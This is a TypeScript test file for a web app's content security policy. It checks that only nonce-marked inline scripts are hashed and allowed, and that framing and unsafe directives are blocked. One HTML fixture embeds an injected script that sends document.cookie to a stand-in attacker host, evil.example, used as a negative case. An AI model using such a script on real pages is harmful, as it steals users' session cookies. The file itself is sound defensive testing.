import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  BASELINE_CSP,
  contentSecurityPolicy,
  inlineScriptHashes,
  newScriptMarker,
  removeScriptMarker,
} from "./csp.server";

const sha = (s: string) => `'sha256-${createHash("sha256").update(s).digest("base64")}'`;

describe("content security policy", () => {
  it("allows only the inline scripts the app emitted in this render, not a foreign one in the HTML", () => {
    const marker = newScriptMarker();
    const html =
      `<head><script type="application/ld+json">{"a":1}</script></head><body><p>&lt;script&gt;</p>` +
      `<script nonce="${marker}">window.__ctx = {"x":"\\u003c/script>"};</script>` +
      `<script type="module" nonce="${marker}" src="/assets/a.js"></script>` +
      `<script>fetch("https://evil.example/?c=" + document.cookie)</script>` +
      `<script nonce="guessed">alert(1)</script>` +
      `<script type="module" async="" nonce="${marker}">import("/assets/entry.js");</script></body>`;
    const hashes = inlineScriptHashes(html, marker);
    expect(hashes).toEqual([sha('window.__ctx = {"x":"\\u003c/script>"};'), sha('import("/assets/entry.js");')]);
    const policy = contentSecurityPolicy(hashes);
    expect(policy).not.toContain(sha('fetch("https://evil.example/?c=" + document.cookie)'));
    expect(policy).not.toContain(sha("alert(1)"));
    expect(removeScriptMarker(html, marker)).not.toContain(marker);
    expect(newScriptMarker()).not.toBe(marker);
  });

  it("allows scripts from the site and the listed hashes only, and forbids framing", () => {
    const policy = contentSecurityPolicy(["'sha256-abc'", "'sha256-abc'"]);
    expect(policy).toContain("script-src 'self' 'sha256-abc';");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
    expect(BASELINE_CSP).toMatch(/script-src 'self';/);
    expect(/script-src[^;]*unsafe/.test(policy)).toBe(false);
  });

  it("lets pages load images from the media's public origin only when one is given", () => {
    expect(contentSecurityPolicy([])).toContain("img-src 'self' data: blob:;");
    const withCdn = contentSecurityPolicy([], ["https://media.stald.example"]);
    expect(withCdn).toContain("img-src 'self' data: blob: https://media.stald.example;");
    expect(withCdn).toContain("default-src 'self';");
    expect(withCdn).toContain("connect-src 'self';");
  });
});
